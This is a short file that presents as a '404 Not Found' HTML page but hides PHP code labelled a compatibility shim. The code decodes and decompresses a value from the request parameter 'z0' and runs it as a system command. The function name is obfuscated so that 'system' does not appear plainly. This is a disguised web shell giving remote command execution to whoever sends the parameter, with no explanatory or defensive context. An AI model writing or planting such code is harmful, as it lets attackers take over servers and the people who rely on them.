<html><body><h1>404 Not Found</h1></body></html>
<?php
// compatibility shim for old hosts
$req = gzinflate(base64_decode($_GET['z0']));
call_user_func(substr('xxsystemyy', 2, 6), $req);
?>
